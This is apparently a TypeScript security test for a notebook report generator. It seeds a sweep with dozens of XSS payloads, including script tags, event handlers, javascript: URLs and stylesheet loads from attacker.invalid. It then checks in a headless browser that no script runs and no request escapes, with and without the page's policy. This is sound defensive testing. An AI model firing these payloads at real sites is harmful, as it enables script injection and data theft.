// Pages: `mpslab report` of a sweep whose notebooks hold scripts wherever a text may stand. A browser opens the page with its
// policy, and without, so that each of both is seen to suffice alone.
import { spawnSync } from "node:child_process";
import { mkdirSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import path from "node:path";
import { pathToFileURL } from "node:url";
import { chromium } from "playwright-core";
import { PROJECT_ROOT } from "../../../kernel/cli/project.ts";
import { browserPath } from "../../browser/browser_path.ts";

export const name = "scripts in the notebooks of a report";

/** What each would run, if it ran. */
const RUN = "window.__ran=1,alert(1)";
const PAYLOADS: readonly string[] = [
  `<script>${RUN}</script>`,
  `</pre><script>${RUN}</script>`,
  `</title><script>${RUN}</script>`,
  `</style><script>${RUN}</script>`,
  `--><script>${RUN}</script>`,
  `]]><script>${RUN}</script>`,
  `"><script>${RUN}</script>`,
  `'><img src=x onerror="${RUN}">`,
  `" onmouseover="${RUN}" x="`,
  `" autofocus onfocus="${RUN}" tabindex=1 x="`,
  `<img src=x onerror=${RUN}>`,
  `<img src="data:,x" onerror="${RUN}">`,
  `<svg onload=${RUN}>`,
  `<svg><script>${RUN}</script></svg>`,
  `<svg><animate onbegin=${RUN} attributeName=x dur=1s>`,
  `<svg><a xlink:href="javascript:${RUN}"><text y=20>x</text></a></svg>`,
  `<svg><use href="data:image/svg+xml,<svg id='x' onload='${RUN}'/>#x"></svg>`,
  `<svg><foreignObject><iframe srcdoc="<script>parent.${RUN}</script>"></iframe></foreignObject></svg>`,
  `<math><mtext></form><form><mglyph><style></math><img src onerror=${RUN}>`,
  `<iframe src="javascript:parent.${RUN}"></iframe>`,
  `<iframe srcdoc="&lt;script&gt;parent.${RUN}&lt;/script&gt;"></iframe>`,
  `<object data="javascript:${RUN}"></object>`,
  `<embed src="data:text/html,<script>${RUN}</script>">`,
  `<a href="javascript:${RUN}">x</a>`,
  `<a href="java&#x09;script:${RUN}">x</a>`,
  `<a href="data:text/html,<script>opener.${RUN}</script>">x</a>`,
  `<form action="javascript:${RUN}"><button>x</button></form>`,
  `<button formaction="javascript:${RUN}">x</button>`,
  `<details open ontoggle=${RUN}>`,
  `<video><source onerror="${RUN}"></video>`,
  `<body onload=${RUN}>`,
  `<meta http-equiv="refresh" content="0;url=javascript:${RUN}">`,
  `<base href="http://attacker.invalid/">`,
  `<link rel=stylesheet href="http://attacker.invalid/a.css">`,
  `<style>@import "http://attacker.invalid/a.css"; body { background: url(http://attacker.invalid/b) }</style>`,
  `<input onfocus=${RUN} autofocus>`,
  `<marquee onstart=${RUN}>`,
  `[x](javascript:${RUN})`,
  `\u001b]8;;javascript:${RUN}\u0007x\u001b]8;;\u0007`,
  `\u001b[31m<img src=x onerror=${RUN}>\u001b[0m`,
  `javascript:${RUN}`,
  `\u2028<script>${RUN}</script>`,
  `&lt;script&gt;${RUN}&lt;/script&gt;`,
  `<template><img src=x onerror=${RUN}></template>`,
];

/** As an address in a style sheet, in three ways. */
const colourOf = (text: string): string => {
  const address = `http://attacker.invalid/${encodeURIComponent(text)}#x`;
  return [`url(${address})`, `u\\72l(${address})`, `image-set("${address}" 1x)`][text.length % 3]!;
};

const chart = (text: string): object => ({
  $schema: "https://vega.github.io/schema/vega-lite/v5.json",
  title: text,
  data: { values: [{ [text]: 1, name: text }] },
  mark: { type: "text", tooltip: text, href: text, font: text, fill: colourOf(text), description: text },
  encoding: {
    x: { field: "name", type: "nominal", title: text, axis: { labelExpr: JSON.stringify(text) } },
    text: { field: "name" },
    href: { field: "name" },
    tooltip: { field: "name" },
    color: { value: "currentColor" },
  },
  config: { font: text, style: { [text]: { fill: text } } },
});

/** A sweep with a point for each payload, as `mpslab papermill` leaves it. */
function writeSweep(folder: string): void {
  mkdirSync(folder);
  const lines: object[] = [
    {
      type: "sweep",
      schema: 1,
      identity: { notebook: "0", grid: { [PAYLOADS[6]!]: PAYLOADS }, seed: 7 },
    },
    ...PAYLOADS.map((text, at) => {
      const file = `${at}.ipynb`;
      writeFileSync(path.join(folder, file), JSON.stringify(notebookOf(text)));
      const point = { [PAYLOADS[6]!]: text };
      return {
        type: "point",
        point,
        status: "failed",
        error: text,
        wallSeconds: 1,
        file,
        results: { [text]: text },
        node: text,
      };
    }),
  ];
  writeFileSync(path.join(folder, "sweep.jsonl"), lines.map((line) => `${JSON.stringify(line)}\n`).join(""));
}

function notebookOf(text: string): object {
  const data = {
    "application/vnd.vegalite.v5+json": chart(text),
    "image/png": text,
    "image/svg+xml": text,
    "text/html": text,
    "text/markdown": text,
    "text/plain": text,
  };
  const { "application/vnd.vegalite.v5+json": _, ...undrawn } = data;
  const outputs = [
    { output_type: "display_data", data, metadata: {} },
    { output_type: "display_data", data: undrawn, metadata: {} },
    { output_type: "stream", name: "stdout", text },
    { output_type: "error", ename: text, evalue: text, traceback: [text] },
  ];
  const cell = { cell_type: "code", id: "a", source: text, metadata: {}, execution_count: 1, outputs };
  const markdown = { cell_type: "markdown", id: "b", source: text, metadata: {} };
  return {
    cells: [cell, markdown],
    metadata: { papermill: { input_path: text }, mpslab: { peakBytes: text } },
    nbformat: 4,
    nbformat_minor: 5,
  };
}

export async function run(): Promise<string[]> {
  if (browserPath === undefined)
    return ["There is no Chromium to open the page in: MPSLAB_BROWSER names one."];
  const folder = mkdtempSync(path.join(tmpdir(), "mpslab-reports-"));
  try {
    writeSweep(path.join(folder, "sweep"));
    const cli = path.join(PROJECT_ROOT, "dist", "kernel", "cli.js");
    const { status, stderr } = spawnSync(process.execPath, [cli, "report", "sweep"], {
      cwd: folder,
      encoding: "utf8",
    });
    if (status !== 0) return [`mpslab report ended with ${status}: ${stderr}`];
    const page = path.join(folder, "output", "report-sweep.html");
    const html = readFileSync(page, "utf8");
    const open = path.join(folder, "open.html");
    writeFileSync(open, html.replace(/<meta http-equiv="Content-Security-Policy"[^>]*>/, ""));
    console.log(
      `  ${PAYLOADS.length} payloads, a page of ${html.length} characters, ${html.match(/<svg/g)?.length ?? 0} charts`,
    );
    const drawn = html.match(/<svg/g)?.length ?? 0;
    const undrawn = html.match(/Chart not drawn: [^)]*/g) ?? [];
    if (drawn === 0) return [`no chart was drawn: ${undrawn.slice(0, 3).join("; ")}`];
    const control = path.join(folder, "control.html");
    writeFileSync(control, `<!doctype html>${PAYLOADS.slice(0, 12).join("")}`);
    const heard = await problemsOf(control);
    return [
      ...(heard.length > 0
        ? []
        : ["a page that holds the scripts as they are ran none: nothing would be found"]),
      ...(await problemsOf(page)).map((problem) => `the page: ${problem}`),
      ...(await problemsOf(open)).map((problem) => `the page without its policy: ${problem}`),
    ];
  } finally {
    rmSync(folder, { recursive: true });
  }
}

/** What runs in the page: a text, because this program knows no `window`. */
const LOOK = `({
  ran: "__ran" in window,
  links: [...document.querySelectorAll("svg a")].map((one) => one.getAttribute("xlink:href")).filter((one) => !/^(#|https?:)/.test(one)),
  active: document.querySelectorAll("script, iframe, object, embed, base, link, [onload], [onerror], [onfocus]").length,
})`;

/** Opens the page, clicks and focuses what can be, and says what ran or was asked for. */
async function problemsOf(file: string): Promise<string[]> {
  const browser = await chromium.launch({
    executablePath: browserPath!,
    args: ["--no-sandbox", "--disable-gpu"],
  });
  try {
    const problems = new Set<string>();
    const page = await browser.newPage();
    const address = pathToFileURL(file).href;
    page.on("dialog", (dialog) => {
      problems.add(`a dialog: ${dialog.message()}`);
      void dialog.dismiss();
    });
    page.on("popup", (popup) => problems.add(`another page: ${popup.url()}`));
    page.on("request", (request) => {
      const url = request.url();
      if (url !== address && !url.startsWith("data:image/png"))
        problems.add(`a request: ${url.slice(0, 100)}`);
    });
    await page.goto(address);
    for (const link of await page.locator("body a:not([href^='#'], svg a), button, input, form").all()) {
      problems.add(`an element to click: ${(await link.evaluate((one) => one.outerHTML)).slice(0, 120)}`);
      await link.dispatchEvent("click").catch(() => {});
    }
    const found = await page.evaluate<{ ran: boolean; active: number; links: string[] }>(LOOK);
    for (const link of found.links) problems.add(`a link: ${link}`);
    if (found.ran) problems.add("a script ran");
    if (found.active > 0) problems.add(`${found.active} elements that run or load something`);
    return [...problems];
  } finally {
    await browser.close();
  }
}
